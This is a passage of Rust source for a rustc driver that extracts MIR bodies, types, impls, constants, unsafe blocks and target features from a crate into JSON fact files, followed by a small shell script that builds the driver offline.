        let s = full!(self.tcx.def_path_str(d));
        self.s(s)
    }
    fn path_string(&self, d: DefId) -> String {
        full!(self.tcx.def_path_str(d))
    }
    fn pos(&self, sp: Span) -> J {
        let sp = sp.source_callsite();
        let sm = self.tcx.sess.source_map();
        let lo = sm.lookup_char_pos(sp.lo());
        J::I((lo.line as i64) * 4096 + (lo.col.0 as i64).min(4095))
    }
    fn span4(&mut self, sp: Span) -> J {
        let sm = self.tcx.sess.source_map();
        let lo = sm.lookup_char_pos(sp.lo());
        let hi = sm.lookup_char_pos(sp.hi());
        let file = format!("{}", lo.file.name.prefer_local_unconditionally());
        J::A(vec![
            self.s(file),
            J::I(lo.line as i64),
            J::I(lo.col.0 as i64),
            J::I(hi.line as i64),
            J::I(hi.col.0 as i64),
        ])
    }
    fn features_of(&self, d: DefId) -> Vec<String> {
        match self.tcx.def_kind(d) {
            DefKind::Fn | DefKind::AssocFn | DefKind::Closure => {}
            _ => return vec![],
        }
        let attrs = self.tcx.codegen_fn_attrs(d);
        let mut v: Vec<String> = attrs
            .target_features
            .iter()
            .map(|f| f.name.to_string())
            .collect();
        v.sort();
        v.dedup();
        v
    }
    fn is_unsafe_fn(&self, d: DefId) -> bool {
        match self.tcx.def_kind(d) {
            DefKind::Fn | DefKind::AssocFn => {
                self.tcx.fn_sig(d).skip_binder().safety().is_unsafe()
            }
            _ => false,
        }
    }
}

fn dump<'tcx>(tcx: TyCtxt<'tcx>, out: &str) {
    let crate_name = tcx.crate_name(rustc_hir::def_id::LOCAL_CRATE).to_string();
    if crate_name.starts_with("build_script") {
        return;
    }
    let mut cx = Cx { tcx, strs: vec![], idx: HashMap::new() };
    let mut fns = vec![];
    let mut statics = vec![];
    let mut consts = vec![];
    for ldid in tcx.hir_body_owners() {
        let did = ldid.to_def_id();
        match tcx.def_kind(did) {
            DefKind::Fn | DefKind::AssocFn | DefKind::Closure => {
                if tcx.is_constructor(did) {
                    continue;
                }
                // skip coroutine-like closures
                if tcx.is_coroutine(did) {
                    continue;
                }
                fns.push(dump_fn(&mut cx, ldid));
                let proms = tcx.promoted_mir(did);
                for (pi, pb) in proms.iter_enumerated() {
                    fns.push(dump_body(&mut cx, ldid, pb, Some(pi.as_usize())));
                }
            }
            DefKind::InlineConst => {
                // `const { .. }` blocks: their body is what the enclosing function's constant operand evaluates
                let r = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| tcx.mir_for_ctfe(did)));
                if let Ok(body) = r {
                    fns.push(dump_body(&mut cx, ldid, body, None));
                }
            }
            DefKind::Static { .. } => {
                statics.push(dump_static(&mut cx, ldid));
            }
            DefKind::Const { .. } | DefKind::AssocConst { .. } => {
                if let Some(c) = dump_const(&mut cx, ldid) {
                    consts.push(c);
                }
            }
            _ => {}
        }
    }
    let mut adts = vec![];
    let mut impls = vec![];
    for id in tcx.hir_free_items() {
        let did = id.owner_id.to_def_id();
        match tcx.def_kind(did) {
            DefKind::Struct | DefKind::Enum | DefKind::Union => {
                adts.push(dump_adt(&mut cx, did));
            }
            DefKind::Impl { .. } => {
                impls.push(dump_impl(&mut cx, did));
            }
            _ => {}
        }
    }
    let unsafe_blocks = dump_unsafe_blocks(&mut cx);

    // implication closure of the x86 target features the rules may meet (authoritative: rustc's own table)
    let mut implied = vec![];
    let is_x86 = tcx.sess.target.arch.to_string().starts_with("x86");
    if is_x86 {
        for name in [
            "sse", "sse2", "sse3", "ssse3", "sse4.1", "sse4.2", "avx", "avx2", "fma", "f16c", "bmi1", "bmi2",
            "lzcnt", "popcnt", "avx512f", "avx512bw", "avx512vl", "pclmulqdq", "aes",
        ] {
            let sym = rustc_span::Symbol::intern(name);
            let r = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| {
                tcx.implied_target_features(sym).iter().map(|s| J::S(s.to_string())).collect::<Vec<_>>()
            }));
            if let Ok(v) = r {
                implied.push((name.to_string(), J::A(v)));
            }
        }
    }
    let baseline: Vec<J> = tcx
        .sess
        .unstable_target_features
        .iter()
        .map(|s| J::S(s.to_string()))
        .collect();
    let is_test = tcx.sess.opts.test;
    let crate_types: Vec<J> = tcx
        .crate_types()
        .iter()
        .map(|t| J::S(format!("{:?}", t)))
        .collect();
    let strs = std::mem::take(&mut cx.strs);
    let doc = J::O(vec![
        ("crate".into(), J::S(crate_name.clone())),
        ("test".into(), J::B(is_test)),
        ("crate_types".into(), J::A(crate_types)),
        ("implied_features".into(), J::O(implied)),
        ("baseline_features".into(), J::A(baseline)),
        ("arch".into(), J::S(tcx.sess.target.arch.to_string())),
        ("fns".into(), J::A(fns)),
        ("adts".into(), J::A(adts)),
        ("impls".into(), J::A(impls)),
        ("statics".into(), J::A(statics)),
        ("consts".into(), J::A(consts)),
        ("unsafe_blocks".into(), J::A(unsafe_blocks)),
        ("strs".into(), J::A(strs.into_iter().map(J::S).collect())),
    ]);
    let mut buf = String::new();
    doc.write(&mut buf);
    let kind = if is_test {
        "test".to_string()
    } else {
        format!("{:?}", tcx.crate_types()[0]).to_lowercase().replace(|c: char| !c.is_alphanumeric(), "")
    };
    let stable = tcx.stable_crate_id(rustc_hir::def_id::LOCAL_CRATE).as_u64();
    let path = format!("{}/{}-{}-{:016x}.json", out, crate_name, kind, stable);
    let tmp = format!("{}.tmp{}", path, std::process::id());
    std::fs::write(&tmp, buf).expect("jxlv: cannot write facts");
    std::fs::rename(&tmp, &path).expect("jxlv: cannot rename facts");
}

/// evaluated value of a non-generic `const` / immutable `static`, pretty-printed by rustc (spec tables, magic numbers)
fn dump_const<'tcx>(cx: &mut Cx<'tcx>, ldid: LocalDefId) -> Option<J> {
    let tcx = cx.tcx;
    let did = ldid.to_def_id();
    if tcx.generics_of(did).requires_monomorphization(tcx) {
        return None;
    }
    if matches!(tcx.def_kind(did), DefKind::Static { .. }) {
        return None;   // const_eval_poly asserts on statics
    }
    let raw = tcx.type_of(did).instantiate_identity();
    let ty = raw.skip_norm_wip();
    // array lengths written as constant expressions (`[T; N as usize]`) must be evaluated before the value can be destructured
    let env = ty::TypingEnv::post_analysis(tcx, did);
    let ty = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| tcx.try_normalize_erasing_regions(env, raw).ok()))
        .ok()
        .flatten()
        .unwrap_or(ty);
    let r = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| {
        match tcx.const_eval_poly(did) {
            Ok(val) => {
                let c = Const::Val(val, ty);
                Some(full!(format!("{}", c)))
            }
            Err(_) => None,
        }
    }));
    let s = match r {
        Ok(Some(s)) => s,
        _ => return None,
    };
    let s = if s.len() > 60000 { s[..60000].to_string() } else { s };
    Some(J::O(vec![
        ("path".into(), cx.path(did)),
        ("ty".into(), cx.ty(ty)),
        ("value".into(), J::S(s)),
        ("span".into(), cx.span4(tcx.def_span(did))),
    ]))
}

fn dump_static<'tcx>(cx: &mut Cx<'tcx>, ldid: LocalDefId) -> J {
    let tcx = cx.tcx;
    let did = ldid.to_def_id();
    let ty = tcx.type_of(did).instantiate_identity().skip_norm_wip();
    let env = ty::TypingEnv::post_analysis(tcx, did);
    let freeze = ty.is_freeze(tcx, env);
    J::O(vec![
        ("path".into(), cx.path(did)),
        ("ty".into(), cx.ty(ty)),
        ("mut".into(), J::B(tcx.is_mutable_static(did))),
        ("freeze".into(), J::B(freeze)),
        ("thread_local".into(), J::B(tcx.is_thread_local_static(did))),
        ("span".into(), cx.span4(tcx.def_span(did))),
    ])
}

fn dump_adt<'tcx>(cx: &mut Cx<'tcx>, did: DefId) -> J {
    let tcx = cx.tcx;
    let adt = tcx.adt_def(did);
    let mut variants = vec![];
    for (vidx, v) in adt.variants().iter_enumerated() {
        let discr = if adt.is_enum() {
            let d = adt.discriminant_for_variant(tcx, vidx);
            J::S(format!("{}", d.val))
        } else {
            J::Null
        };
        let mut fields = vec![];
        for f in v.fields.iter() {
            let fty = tcx.type_of(f.did).instantiate_identity().skip_norm_wip();
            let vis = format!("{:?}", f.vis);
            fields.push(J::A(vec![J::S(f.name.to_string()), cx.ty(fty), J::S(vis)]));
        }
        variants.push(J::O(vec![
            ("name".into(), J::S(v.name.to_string())),
            ("discr".into(), discr),
            ("fields".into(), J::A(fields)),
        ]));
    }
    let kind = if adt.is_enum() {
        "enum"
    } else if adt.is_union() {
        "union"
    } else {
        "struct"
    };
    J::O(vec![
        ("path".into(), cx.path(did)),
        ("kind".into(), J::S(kind.into())),
        ("repr".into(), J::S(format!("{:?}", adt.repr()))),
        ("variants".into(), J::A(variants)),
        ("span".into(), cx.span4(tcx.def_span(did))),
    ])
}

fn dump_impl<'tcx>(cx: &mut Cx<'tcx>, did: DefId) -> J {
    let tcx = cx.tcx;
    let self_ty = tcx.type_of(did).instantiate_identity().skip_norm_wip();
    let (trait_path, is_unsafe, negative) = match tcx.impl_opt_trait_ref(did) {
        Some(tr) => {
            let tr = tr.instantiate_identity().skip_norm_wip();
            let s = full!(format!("{}", tr.print_only_trait_path()));
            let header = tcx.impl_trait_header(did);
            (
                J::S(s),
                header.safety.is_unsafe(),
                matches!(header.polarity, ty::ImplPolarity::Negative),
            )
        }
        None => (J::Null, false, false),
    };
    let preds = tcx.predicates_of(did);
    let mut ps = vec![];
    for (p, _) in preds.predicates.iter() {
        ps.push(J::S(full!(format!("{}", p))));
    }
    let derived = tcx.is_automatically_derived(did);
    let mut items = vec![];
    for item in tcx.associated_items(did).in_definition_order() {
        items.push(J::S(item.name().to_string()));
    }
    J::O(vec![
        ("trait".into(), trait_path),
        ("self".into(), cx.ty(self_ty)),
        ("unsafe".into(), J::B(is_unsafe)),
        ("negative".into(), J::B(negative)),
        ("derived".into(), J::B(derived)),
        ("preds".into(), J::A(ps)),
        ("items".into(), J::A(items)),
        ("span".into(), cx.span4(tcx.def_span(did))),
    ])
}

struct UnsafeVisitor<'a, 'tcx> {
    cx: &'a mut Cx<'tcx>,
    owner: DefId,
    out: Vec<J>,
}

impl<'a, 'tcx> hir::intravisit::Visitor<'tcx> for UnsafeVisitor<'a, 'tcx> {
    fn visit_block(&mut self, b: &'tcx hir::Block<'tcx>) {
        if let hir::BlockCheckMode::UnsafeBlock(hir::UnsafeSource::UserProvided) = b.rules {
            let from_exp = b.span.from_expansion();
            let sp = self.cx.span4(b.span.source_callsite());
            let owner = self.cx.path(self.owner);
            self.out.push(J::O(vec![
                ("fn".into(), owner),
                ("span".into(), sp),
                ("macro".into(), J::B(from_exp)),
            ]));
        }
        hir::intravisit::walk_block(self, b);
    }
}

fn dump_unsafe_blocks<'tcx>(cx: &mut Cx<'tcx>) -> Vec<J> {
    let tcx = cx.tcx;
    let mut out = vec![];
    for ldid in tcx.hir_body_owners() {
        let did = ldid.to_def_id();
        // closures are visited as part of their parent body? No: walk_expr does not descend
        // into nested bodies by default, so visit every owner separately.
        let body = match tcx.hir_maybe_body_owned_by(ldid) {
            Some(b) => b,
            None => continue,
        };
        let mut v = UnsafeVisitor { cx, owner: did, out: vec![] };
        hir::intravisit::Visitor::visit_expr(&mut v, body.value);
        out.append(&mut v.out);
    }
    out
}

fn dump_fn<'tcx>(cx: &mut Cx<'tcx>, ldid: LocalDefId) -> J {
    let body: &Body<'tcx> = cx.tcx.optimized_mir(ldid.to_def_id());
    dump_body(cx, ldid, body, None)
}

fn dump_body<'tcx>(cx: &mut Cx<'tcx>, ldid: LocalDefId, body: &Body<'tcx>, promoted: Option<usize>) -> J {
    let tcx = cx.tcx;
    let did = ldid.to_def_id();
    let kind = tcx.def_kind(did);
    let def_span = tcx.def_span(did);
    let full_span = body.span;

    let mut locals = vec![];
    let mut names: HashMap<Local, String> = HashMap::new();
    let mut upvar_names: Vec<J> = vec![];
    for vdi in body.var_debug_info.iter() {
        if let VarDebugInfoContents::Place(p) = &vdi.value {
            if p.projection.is_empty() {
                names.entry(p.local).or_insert_with(|| vdi.name.to_string());
            } else {
                let pj = place(cx, body, *p);
                upvar_names.push(J::A(vec![J::S(vdi.name.to_string()), pj]));
            }
        }
    }
    for (l, decl) in body.local_decls.iter_enumerated() {
        let name = match names.get(&l) {
            Some(n) => J::S(n.clone()),
            None => J::Null,
        };
        let user = names.contains_key(&l);
        locals.push(J::A(vec![
            cx.ty(decl.ty),
            name,
            J::B(user),
            cx.pos(decl.source_info.span),
        ]));
    }

    let mut blocks = vec![];
    for (_bb, data) in body.basic_blocks.iter_enumerated() {
        let mut stmts = vec![];
        for st in data.statements.iter() {
            if let Some(j) = stmt(cx, body, did, st) {
                stmts.push(j);
            }
        }
        let term = terminator(cx, body, did, data.terminator());
        blocks.push(J::A(vec![J::A(stmts), term, J::B(data.is_cleanup)]));
    }

    let mut captures = vec![];
    let mut parent = J::Null;
    if kind == DefKind::Closure && promoted.is_none() {
        let root = tcx.typeck_root_def_id(did);
        parent = cx.path(root);
        for c in tcx.closure_captures(ldid) {
            let by = match c.info.capture_kind {
                ty::UpvarCapture::ByValue => "value".to_string(),
                ty::UpvarCapture::ByUse => "use".to_string(),
                ty::UpvarCapture::ByRef(k) => format!("ref:{:?}", k),
            };
            let pty = c.place.ty();
            // interior mutability of the captured data (peeling references): Freeze or not
            let mut inner = pty;
            while let ty::Ref(_, t, _) = inner.kind() {
                inner = *t;
            }
            let env = ty::TypingEnv::post_analysis(tcx, did);
            let freeze = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| inner.is_freeze(tcx, env)))
                .unwrap_or(false);
            captures.push(J::A(vec![
                J::S(c.to_string(tcx)),
                cx.ty(pty),
                J::S(by),
                J::B(freeze),
            ]));
        }
    }
    let vis = match kind {
        DefKind::Fn | DefKind::AssocFn => format!("{:?}", tcx.visibility(did)),
        _ => "closure".into(),
    };
    // trait impl method of which trait?
    let mut impl_of = J::Null;
    let mut trait_of = J::Null;
    if kind == DefKind::AssocFn {
        let p = tcx.parent(did);
        if let DefKind::Impl { of_trait } = tcx.def_kind(p) {
            let st = tcx.type_of(p).instantiate_identity().skip_norm_wip();
            impl_of = cx.ty(st);
            if of_trait {
                let tr = tcx.impl_trait_ref(p).instantiate_identity().skip_norm_wip();
                trait_of = J::S(full!(format!("{}", tr.print_only_trait_path())));
            }
        }
    }
    let path_j = match promoted {
        Some(i) => {
            let base = cx.path_string(did);
            cx.s(format!("{}::promoted[{}]", base, i))
        }
        None => cx.path(did),
    };
    let kind_s = if promoted.is_some() { "Promoted".to_string() } else { format!("{:?}", kind) };
    J::O(vec![
        ("path".into(), path_j),
        ("kind".into(), J::S(kind_s)),
        ("span".into(), cx.span4(full_span)),
        ("def_line".into(), cx.pos(def_span)),
        ("unsafe".into(), J::B(cx.is_unsafe_fn(did))),
        ("vis".into(), J::S(vis)),
        ("tf".into(), J::A(cx.features_of(did).into_iter().map(J::S).collect())),
        ("macro".into(), J::B(def_span.from_expansion())),
        ("parent".into(), parent),
        ("impl_of".into(), impl_of),
        ("trait_of".into(), trait_of),
        ("argc".into(), J::I(body.arg_count as i64)),
        ("locals".into(), J::A(locals)),
        ("upvar_names".into(), J::A(upvar_names)),
        ("captures".into(), J::A(captures)),
        ("blocks".into(), J::A(blocks)),
    ])
}

fn place<'tcx>(cx: &mut Cx<'tcx>, body: &Body<'tcx>, p: Place<'tcx>) -> J {
    let tcx = cx.tcx;
    let mut v = vec![J::I(p.local.as_usize() as i64)];
    for (base, elem) in p.iter_projections() {
        let j = match elem {
            ProjectionElem::Deref => J::S("*".into()),
            ProjectionElem::Field(f, _fty) => {
                let bty = base.ty(&body.local_decls, tcx);
                let mut name = J::Null;
                let mut adt = J::Null;
                match bty.ty.kind() {
                    ty::Adt(def, _) => {
                        let vidx = bty.variant_index.unwrap_or(rustc_abi::FIRST_VARIANT);
                        if !def.is_enum() || bty.variant_index.is_some() {
                            let var = def.variant(vidx);
                            if let Some(fd) = var.fields.get(f) {
                                name = J::S(fd.name.to_string());
                            }
                        }
                        adt = cx.path(def.did());
                    }
                    ty::Closure(cdid, _) => {
                        if let Some(l) = cdid.as_local() {
                            let caps = tcx.closure_captures(l);
                            if let Some(c) = caps.get(f.as_usize()) {
                                name = J::S(c.to_string(tcx));
                            }
                        }
                        adt = J::S("{closure}".into());
                    }
                    _ => {}
                }
                J::A(vec![J::S(".".into()), J::I(f.as_usize() as i64), name, adt])
            }
            ProjectionElem::Index(l) => J::A(vec![J::S("[]".into()), J::I(l.as_usize() as i64)]),
            ProjectionElem::ConstantIndex { offset, min_length, from_end } => J::A(vec![
                J::S("[c]".into()),
                J::I(offset as i64),
                J::I(min_length as i64),
                J::B(from_end),
            ]),
            ProjectionElem::Subslice { from, to, from_end } => J::A(vec![
                J::S("[..]".into()),
                J::I(from as i64),
                J::I(to as i64),
                J::B(from_end),
            ]),
            ProjectionElem::Downcast(name, vidx) => {
                let n = match name {
                    Some(s) => s.to_string(),
                    None => format!("#{}", vidx.as_usize()),
                };
                J::A(vec![J::S("as".into()), J::S(n), J::I(vidx.as_usize() as i64)])
            }
            ProjectionElem::OpaqueCast(_) => J::S("opaque".into()),
            ProjectionElem::UnwrapUnsafeBinder(_) => J::S("unbind".into()),
        };
        v.push(j);
    }
    J::A(v)
}

fn fn_info<'tcx>(cx: &mut Cx<'tcx>, caller: DefId, d: DefId, args: ty::GenericArgsRef<'tcx>) -> J {
    let tcx = cx.tcx;
    let mut fields = vec![("fn".to_string(), cx.path(d))];
    let mut gargs = vec![];
    for a in args.iter() {
        // skip lifetimes
        if a.as_region().is_some() {
            continue;
        }
        let s = full!(format!("{}", a));
        gargs.push(cx.s(s));
    }
    fields.push(("args".into(), J::A(gargs)));
    // resolve trait methods
    let mut target = d;
    if matches!(tcx.def_kind(d), DefKind::AssocFn | DefKind::Fn) {
        let env = ty::TypingEnv::post_analysis(tcx, caller);
        // erase regions is not needed for try_resolve, but late-bound regions may ICE: guard
        let res = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| {
            ty::Instance::try_resolve(tcx, env, d, args)
        }));
        if let Ok(Ok(Some(inst))) = res {
            let rd = inst.def_id();
            if rd != d {
                fields.push(("res".into(), cx.path(rd)));
                if let ty::InstanceKind::Item(_) = inst.def {
                    target = rd;
                }
            }
            match inst.def {
                ty::InstanceKind::Item(_) => {}
                other => {
                    let k = format!("{:?}", other);
                    let k = k.split('(').next().unwrap_or("").to_string();
                    fields.push(("shim".into(), J::S(k)));
                }
            }
        }
    }
    if cx.is_unsafe_fn(target) {
        fields.push(("unsafe".into(), J::B(true)));
    }
    let tf = cx.features_of(target);
    if !tf.is_empty() {
        fields.push(("tf".into(), J::A(tf.into_iter().map(J::S).collect())));
    }
    if target.is_local() {
        fields.push(("local".into(), J::B(true)));
    }
    if tcx.def_kind(d) == DefKind::AssocFn {
        if let Some(tr) = tcx.trait_of_assoc(d) {
            fields.push(("trait".into(), cx.path(tr)));
        }
    }
    J::O(fields)
}

fn constant<'tcx>(cx: &mut Cx<'tcx>, caller: DefId, c: &ConstOperand<'tcx>) -> J {
    let tcx = cx.tcx;
    let ty = c.const_.ty();
    if let ty::FnDef(d, args) = ty.kind() {
        return fn_info(cx, caller, *d, args);
    }
    let mut fields = vec![("ty".to_string(), cx.ty(ty))];
    // a pointer to a static: name the static
    if let Const::Val(ConstValue::Scalar(rustc_middle::mir::interpret::Scalar::Ptr(ptr, _)), _) = c.const_ {
        let aid = ptr.provenance.alloc_id();
        if let Some(rustc_middle::mir::interpret::GlobalAlloc::Static(sd)) = tcx.try_get_global_alloc(aid) {
            fields.push(("static".into(), cx.path(sd)));
        }
    }
    if let Const::Unevaluated(uv, _) = c.const_ {
        fields.push(("item".into(), cx.path(uv.def)));
        if let Some(p) = uv.promoted {
            fields.push(("promoted".into(), J::I(p.as_usize() as i64)));
        }
    }
    let env = ty::TypingEnv::post_analysis(tcx, caller);
    let mut done = false;
    if ty.is_integral() || ty.is_bool() || ty.is_char() {
        let r = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| {
            c.const_.try_eval_scalar_int(tcx, env)
        }));
        if let Ok(Some(si)) = r {
            let size = si.size();
            let v = if ty.is_signed() {
                format!("{}", si.to_int(size))
            } else {
                format!("{}", si.to_uint(size))
            };
            fields.push(("v".into(), J::S(v)));
            done = true;
        }
    }
    if !done {
        let s = full!(format!("{}", c.const_));
        let s = if s.len() > 200 { s[..200].to_string() } else { s };
        fields.push(("s".into(), J::S(s)));
    }
    J::O(fields)
}

fn operand<'tcx>(cx: &mut Cx<'tcx>, body: &Body<'tcx>, caller: DefId, o: &Operand<'tcx>) -> J {
    match o {
        Operand::Copy(p) => J::A(vec![J::S("c".into()), place(cx, body, *p)]),
        Operand::Move(p) => J::A(vec![J::S("m".into()), place(cx, body, *p)]),
        Operand::Constant(c) => J::A(vec![J::S("k".into()), constant(cx, caller, c)]),
        #[allow(unreachable_patterns)]
        _ => J::A(vec![J::S("?".into()), J::S(format!("{:?}", o))]),
    }
}

fn rvalue<'tcx>(cx: &mut Cx<'tcx>, body: &Body<'tcx>, caller: DefId, rv: &Rvalue<'tcx>) -> J {
    let tcx = cx.tcx;
    match rv {
        Rvalue::Use(o, _) => J::A(vec![J::S("use".into()), operand(cx, body, caller, o)]),
        Rvalue::Repeat(o, n) => {
            let s = format!("{}", n);
            J::A(vec![J::S("repeat".into()), operand(cx, body, caller, o), J::S(s)])
        }
        Rvalue::Ref(_, bk, p) => {
            let k = match bk {
                BorrowKind::Shared => "shared",
                BorrowKind::Fake(_) => "fake",
                BorrowKind::Mut { .. } => "mut",
            };
            J::A(vec![J::S("ref".into()), J::S(k.into()), place(cx, body, *p)])
        }
        Rvalue::ThreadLocalRef(d) => J::A(vec![J::S("tlref".into()), cx.path(*d)]),
        Rvalue::RawPtr(k, p) => {
            J::A(vec![J::S("rawptr".into()), J::S(format!("{:?}", k)), place(cx, body, *p)])
        }
        Rvalue::Cast(k, o, t) => {
            let ks = format!("{:?}", k);
            let ks = ks.split('(').next().unwrap_or("").to_string();
            let ks = if let CastKind::PointerCoercion(pc, _) = k { format!("Coerce:{:?}", pc) } else { ks };
            J::A(vec![J::S("cast".into()), J::S(ks), operand(cx, body, caller, o), cx.ty(*t)])
        }
        Rvalue::BinaryOp(op, ab) => J::A(vec![
            J::S("bin".into()),
            J::S(format!("{:?}", op)),
            operand(cx, body, caller, &ab.0),
            operand(cx, body, caller, &ab.1),
        ]),
        Rvalue::UnaryOp(op, o) => {
            J::A(vec![J::S("un".into()), J::S(format!("{:?}", op)), operand(cx, body, caller, o)])
        }
        Rvalue::Discriminant(p) => J::A(vec![J::S("discr".into()), place(cx, body, *p)]),
        Rvalue::Aggregate(k, ops) => {
            let kind = match &**k {
                AggregateKind::Array(t) => J::A(vec![J::S("array".into()), cx.ty(*t)]),
                AggregateKind::Tuple => J::A(vec![J::S("tuple".into())]),
                AggregateKind::Adt(d, vidx, _args, _, _) => {
                    let adt = tcx.adt_def(*d);
                    let vn = adt.variant(*vidx).name.to_string();
                    J::A(vec![J::S("adt".into()), cx.path(*d), J::S(vn), J::I(vidx.as_usize() as i64)])
                }
                AggregateKind::Closure(d, _) => J::A(vec![J::S("closure".into()), cx.path(*d)]),
                AggregateKind::Coroutine(d, _) => J::A(vec![J::S("coroutine".into()), cx.path(*d)]),
                AggregateKind::CoroutineClosure(d, _) => {
                    J::A(vec![J::S("coroutine_closure".into()), cx.path(*d)])
                }
                AggregateKind::RawPtr(t, _) => J::A(vec![J::S("rawptr".into()), cx.ty(*t)]),
            };
            let os: Vec<J> = ops.iter().map(|o| operand(cx, body, caller, o)).collect();
            J::A(vec![J::S("agg".into()), kind, J::A(os)])
        }
        Rvalue::CopyForDeref(p) => {
            J::A(vec![J::S("use".into()), J::A(vec![J::S("c".into()), place(cx, body, *p)])])
        }
        Rvalue::WrapUnsafeBinder(o, _) => {
            J::A(vec![J::S("use".into()), operand(cx, body, caller, o)])
        }
        #[allow(unreachable_patterns)]
        _ => J::A(vec![J::S("other".into()), J::S(format!("{:?}", rv))]),
    }
}

fn stmt<'tcx>(cx: &mut Cx<'tcx>, body: &Body<'tcx>, caller: DefId, st: &Statement<'tcx>) -> Option<J> {
    let pos = cx.pos(st.source_info.span);
    let exp = st.source_info.span.from_expansion();
    let j = match &st.kind {
        StatementKind::Assign(b) => {
            let (p, rv) = &**b;
            J::A(vec![
                J::S("=".into()),
                place(cx, body, *p),
                rvalue(cx, body, caller, rv),
                pos,
                J::B(exp),
            ])
        }
        StatementKind::SetDiscriminant { place: p, variant_index } => J::A(vec![
            J::S("setdiscr".into()),
            place(cx, body, **p),
            J::I(variant_index.as_usize() as i64),
            pos,
            J::B(exp),
        ]),
        StatementKind::StorageDead(l) => {
            J::A(vec![J::S("dead".into()), J::I(l.as_usize() as i64)])
        }
        StatementKind::StorageLive(l) => {
            J::A(vec![J::S("live".into()), J::I(l.as_usize() as i64)])
        }
        StatementKind::Intrinsic(i) => {
            J::A(vec![J::S("intrinsic".into()), J::S(format!("{:?}", i)), pos, J::B(exp)])
        }
        _ => return None,
    };
    Some(j)
}

fn terminator<'tcx>(cx: &mut Cx<'tcx>, body: &Body<'tcx>, caller: DefId, t: &Terminator<'tcx>) -> J {
    let pos = cx.pos(t.source_info.span);
    let exp = t.source_info.span.from_expansion();
    let bb = |b: BasicBlock| J::I(b.as_usize() as i64);
    let unwind = |u: &UnwindAction| match u {
        UnwindAction::Cleanup(b) => J::I(b.as_usize() as i64),
        _ => J::Null,
    };
    let mut v = match &t.kind {
        TerminatorKind::Goto { target } => vec![J::S("goto".into()), bb(*target)],
        TerminatorKind::SwitchInt { discr, targets } => {
            let mut ts = vec![];
            for (val, tgt) in targets.iter() {
                ts.push(J::A(vec![J::S(format!("{}", val)), bb(tgt)]));
            }
            vec![
                J::S("switch".into()),
                operand(cx, body, caller, discr),
                J::A(ts),
                bb(targets.otherwise()),
            ]
        }
        TerminatorKind::UnwindResume => vec![J::S("resume".into())],
        TerminatorKind::UnwindTerminate(_) => vec![J::S("terminate".into())],
        TerminatorKind::Return => vec![J::S("ret".into())],
        TerminatorKind::Unreachable => vec![J::S("unreachable".into())],
        TerminatorKind::Drop { place: p, target, unwind: u, .. } => {
            let pty = p.ty(&body.local_decls, cx.tcx).ty;
            vec![J::S("drop".into()), place(cx, body, *p), bb(*target), unwind(u), cx.ty(pty)]
        }
        TerminatorKind::Call { func, args, destination, target, unwind: u, fn_span, .. } => {
            let f = operand(cx, body, caller, func);
            let fty = func.ty(&body.local_decls, cx.tcx);
            let a: Vec<J> = args.iter().map(|a| operand(cx, body, caller, &a.node)).collect();
            let tgt = match target {
                Some(b) => bb(*b),
                None => J::Null,
            };
            let _ = fn_span;
            vec![
                J::S("call".into()),
                f,
                J::A(a),
                place(cx, body, *destination),
                tgt,
                unwind(u),
                cx.ty(fty),
            ]
        }
        TerminatorKind::TailCall { func, args, .. } => {
            let f = operand(cx, body, caller, func);
            let a: Vec<J> = args.iter().map(|a| operand(cx, body, caller, &a.node)).collect();
            vec![J::S("tailcall".into()), f, J::A(a)]
        }
        TerminatorKind::Assert { cond, expected, msg, target, unwind: u } => {
            let kind = match &**msg {
                AssertKind::BoundsCheck { .. } => "bounds".to_string(),
                AssertKind::Overflow(op, ..) => format!("overflow:{:?}", op),
                AssertKind::OverflowNeg(_) => "overflow:Neg".to_string(),
                AssertKind::DivisionByZero(_) => "divzero".to_string(),
                AssertKind::RemainderByZero(_) => "remzero".to_string(),
                other => {
                    let s = format!("{:?}", other);
                    s.split(|c: char| !c.is_alphanumeric()).next().unwrap_or("").to_string()
                }
            };
            vec![
                J::S("assert".into()),
                operand(cx, body, caller, cond),
                J::B(*expected),
                J::S(kind),
                bb(*target),
                unwind(u),
            ]
        }
        TerminatorKind::FalseEdge { real_target, imaginary_target } => {
            vec![J::S("falseedge".into()), bb(*real_target), bb(*imaginary_target)]
        }
        TerminatorKind::FalseUnwind { real_target, unwind: u } => {
            vec![J::S("falseunwind".into()), bb(*real_target), unwind(u)]
        }
        TerminatorKind::InlineAsm { targets, .. } => {
            let ts: Vec<J> = targets.iter().map(|b| bb(*b)).collect();
            vec![J::S("asm".into()), J::A(ts)]
        }
        other => vec![J::S("other".into()), J::S(format!("{:?}", other))],
    };
    v.push(pos);
    v.push(J::B(exp));
    // layout: [kind, ..., pos, from_expansion]
    let _ = mir::START_BLOCK;
    J::A(v)
}

#!/bin/sh
# build the fact-extraction driver (offline, nightly toolchain with rustc-dev)
set -e
cd "$(dirname "$0")/driver"
CARGO_NET_OFFLINE=true cargo build --offline
